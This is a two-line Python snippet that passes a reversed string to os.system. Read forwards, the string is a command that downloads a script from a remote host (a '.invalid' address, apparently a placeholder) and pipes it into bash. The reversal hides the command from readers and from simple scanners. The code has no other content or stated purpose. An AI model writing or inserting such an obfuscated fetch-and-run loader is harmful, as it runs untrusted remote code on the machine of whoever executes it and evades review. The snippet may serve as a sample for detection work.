import os
os.system("hsab | a/dilavni.7x-ndc//:sptth s- lruc"[::-1])
